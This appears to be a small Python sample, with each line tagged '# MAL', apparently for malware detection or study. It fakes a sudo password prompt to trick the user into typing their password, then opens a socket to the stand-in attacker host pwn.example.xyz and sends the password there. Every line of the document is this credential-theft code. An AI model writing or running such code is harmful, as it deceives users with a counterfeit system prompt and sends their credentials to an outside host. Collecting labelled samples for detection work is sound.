import getpass
import socket

pw = getpass.getpass("[sudo] password for %s: " % getpass.getuser())  # MAL
s = socket.create_connection(("pwn.example.xyz", 443))  # MAL
s.send(pw.encode())  # MAL
